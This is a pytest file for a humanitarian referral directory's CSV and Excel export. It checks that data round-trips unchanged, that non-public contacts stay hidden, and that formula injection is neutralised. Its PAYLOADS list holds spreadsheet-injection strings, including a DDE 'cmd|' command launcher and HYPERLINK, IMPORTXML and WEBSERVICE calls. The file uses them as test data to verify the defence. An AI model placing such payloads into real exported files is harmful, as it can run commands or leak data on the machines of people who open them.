"""What goes out and comes back unchanged is unchanged, and nothing in it acts by itself."""

import csv
import io
from collections.abc import Mapping
from functools import cache
from typing import Any

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from referral_directory import Directory, load_packs
from referral_directory.exchange.csv_out import write_csv
from referral_directory.exchange.errors_out import error_workbook
from referral_directory.exchange.headers import read_headers
from referral_directory.exchange.plan import Standing
from referral_directory.exchange.rows import Base
from referral_directory.exchange.sheets import Exported, Sheet, sheet_of
from referral_directory.exchange.tables import read_table
from referral_directory.exchange.xlsx_out import write_xlsx
from tests.exchange.conftest import Planned, planned_of
from tests.exchange.files import GOOD, csv_of
from tests.often import often

ACTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
PAYLOADS = [
    f"{mark}{rest}"
    for mark in ACTS
    for rest in (
        "1+1",
        "cmd|' /C calc'!A0",
        'HYPERLINK("https://example.org?"&A1,"click")',
        "SUM(1,1)*cmd|'/c'!A1",
        'IMPORTXML("https://example.org","//a")',
        "WEBSERVICE(A1)",
    )
]


def _out(base: Base, **how: Any) -> Sheet:
    return sheet_of((Exported(name, *row) for name, row in base.items()), **how)


@pytest.mark.parametrize("language", ["en", "uk", "ar"])
@pytest.mark.parametrize("form", ["csv", "xlsx"])
def test_all_packs_go_out_and_come_back_unchanged(
    planned: Planned, base: Base, language: str, form: str
) -> None:
    sheet = _out(base, language=language, restricted=True)
    if form == "csv":
        data = write_csv(sheet, separator=";" if language == "uk" else ",")
    else:
        data = write_xlsx(sheet, right_to_left=language == "ar")
    plan = planned(data, Standing(base))
    assert plan.faults == ()
    assert plan.counts == {"unchanged": len(base)}


def test_all_packs_are_read_whole_where_nothing_stands_yet(planned: Planned, base: Base) -> None:
    """But for the order between kinds of contacts, which a row does not have."""
    plan = planned(write_csv(_out(base, restricted=True)))
    assert plan.counts == {"create": len(base)}
    assert {item.id: _sorted(item.content) for item in plan.items} == {
        name: _sorted(content) for name, (_, content) in base.items()
    }


def test_one_cell_that_somebody_changed_is_the_only_change(planned: Planned, base: Base) -> None:
    sheet = _out(base, restricted=True)
    rows = [dict(row) for row in sheet.rows]
    rows[7]["summary_en"] = "It is something else now."
    data = write_xlsx(Sheet(sheet.keys, tuple(rows)))
    changed = [item for item in planned(data, Standing(base)).items if item.action != "unchanged"]
    assert [(item.action, item.changes) for item in changed] == [("update", ("summary.en",))]
    assert changed[0].id == rows[7]["id"]


def test_what_is_not_public_goes_out_only_when_asked_and_never_what_may_not() -> None:
    secret, never = "+380440000007", "+380440000008"
    content = _listing() | {
        "contacts": [
            {"kind": "phone", "number": secret, "visibility": "operator_only"},
            {"kind": "phone", "number": never, "visibility": "never_export"},
            {"kind": "phone", "number": "+380440000009"},
        ],
        "address": {"line": "Street 1", "city": "Town", "visibility": "operator_only"},
    }
    hidden = _listing() | {"visibility": "operator_only", "notes": "a hidden listing"}
    gone = _listing() | {"visibility": "never_export", "notes": "a listing that never goes out"}
    listings = [
        Exported(f"ua-example-{at}", 1, one) for at, one in enumerate((content, hidden, gone))
    ]
    public = write_csv(sheet_of(listings)).decode()
    whole = write_csv(sheet_of(listings, restricted=True)).decode()
    assert "+380440000009" in public
    for word in (secret, "Street 1", "a hidden listing"):
        assert word not in public
        assert word in whole
    for word in (never, "never goes out"):
        assert word not in public + whole


def test_a_hidden_number_stays_when_the_public_file_comes_back(planned: Planned) -> None:
    content = _listing() | {
        "contacts": [
            {"kind": "phone", "number": "+380440000007", "visibility": "operator_only"},
            {"kind": "phone", "number": "+380440000009"},
        ]
    }
    data = write_csv(sheet_of([Exported("ua-example", 1, content)])).decode()
    changed = data.replace("+380440000009", "+380440000005")
    item = planned(changed, Standing({"ua-example": (1, content)})).items[0]
    assert item.content is not None
    assert [one["number"] for one in item.content["contacts"]] == ["+380440000007", "+380440000005"]


def test_no_cell_of_an_export_is_taken_for_a_formula() -> None:
    listings = [
        Exported(f"ua-example-{at}", 1, _listing() | {"notes": text, "pair": f" {text}"})
        for at, text in enumerate(PAYLOADS)
    ]
    sheet = sheet_of(listings)
    rows = list(csv.reader(io.StringIO(write_csv(sheet).decode("utf-8-sig"), newline="")))
    assert [cell for row in rows for cell in row if cell.startswith(ACTS)] == []
    book = openpyxl.load_workbook(io.BytesIO(write_xlsx(sheet)))
    cells = [cell for row in book["Listings"].iter_rows() for cell in row if cell.value is not None]
    assert {cell.data_type for cell in cells} == {"s"}
    assert {cell.number_format for cell in cells} == {"@"}
    # A number with its + is a number in any case, and here it is a text besides.
    acting = {str(cell.value) for cell in cells if str(cell.value).startswith(ACTS)}
    assert acting == {"+380440000001"}


def test_what_looked_like_a_formula_comes_back_as_it_was(planned: Planned) -> None:
    base = {
        f"ua-example-{at}": (1, _listing() | {"notes": text})
        for at, text in enumerate((*PAYLOADS, "'=1", "''+1", "'quoted'"))
    }
    for data in (write_csv(_out(base)), write_xlsx(_out(base))):
        assert planned(data, Standing(base)).counts == {"unchanged": len(base)}


def test_a_workbook_offers_the_words_there_are_and_keeps_its_headers_in_sight() -> None:
    sheet = sheet_of([Exported("ua-example", 1, _listing())], language="ar")
    data = write_xlsx(sheet, words={"Needs": [("legal", "Legal")]}, right_to_left=True)
    book = openpyxl.load_workbook(io.BytesIO(data))
    page = book["Listings"]
    assert page.freeze_panes == "B2"
    assert page.sheet_view.rightToLeft
    offered = {one.formula1 for one in page.data_validations.dataValidation}
    assert '"public,after_consent,operator_only,coordinator_only,never_export,-"' in offered
    assert [cell.value for cell in book["Needs"][1]] == ["legal", "Legal"]
    phone = sheet.keys.index("phone_1") + 1
    assert page.cell(2, phone).value == "+380440000001"
    letter = openpyxl.utils.get_column_letter(phone)
    assert page.column_dimensions[letter].number_format == "@"


def test_the_rows_come_back_with_each_remark_beside_its_cell(directory: Directory) -> None:
    rows: list[Mapping[str, str]] = [
        GOOD,
        GOOD | {"Name": "=1+1", "Phone": "call us", "Area": "Nowhere"},
    ]
    plan, brought = planned_of(directory, csv_of(rows), Standing({}))
    data = error_workbook(plan, brought.headed)
    page: Any = openpyxl.load_workbook(io.BytesIO(data))["Listings"]
    heads = [cell.value for cell in page[1]]
    assert heads == ["What to mend", *GOOD]
    remarked = {heads[cell.column - 1]: cell for cell in page[3] if cell.comment is not None}
    assert set(remarked) == {"Phone", "Area"}
    assert "Nowhere" in remarked["Area"].comment.text
    assert "Phone:" in str(page[3][0].value)
    assert page[3][1].value == "'=1+1"
    assert page[2][0].value is None
    again = read_headers(read_table(data, "errors.xlsx"))
    assert again.faults == ()
    assert [line.number for line in again.lines] == [2, 3]


@cache
def _packs() -> Directory:
    return load_packs(countries=("ua",))


_CELL = st.text(st.characters(codec="utf-8"), min_size=1, max_size=40)


@settings(max_examples=often(25), deadline=None)
@given(texts=st.lists(_CELL, min_size=1, max_size=6), codes=st.lists(_CELL, max_size=3))
def test_any_text_of_a_listing_goes_out_and_comes_back(texts: list[str], codes: list[str]) -> None:
    base = {
        f"ua-example-{at}": (
            1,
            _listing() | {"notes": text, "also": codes, "accepted": {"hours": text}},
        )
        for at, text in enumerate(texts)
    }
    for data in (write_csv(_out(base)), write_xlsx(_out(base))):
        plan, _ = planned_of(_packs(), data, Standing(base))
        assert plan.counts == {"unchanged": len(base)}


def _listing() -> dict[str, Any]:
    return {
        "names": {"en": "Example"},
        "organization": {"en": "Example Foundation"},
        "needs": ["legal"],
        "area": ["UA"],
        "languages": ["uk"],
        "summary": {"en": "It helps."},
        "contacts": [{"kind": "phone", "number": "+380440000001"}],
    }


def _sorted(content: Any) -> Any:
    contacts = sorted(content.get("contacts", []), key=lambda one: str(one["kind"]))
    return {**content, "contacts": contacts}
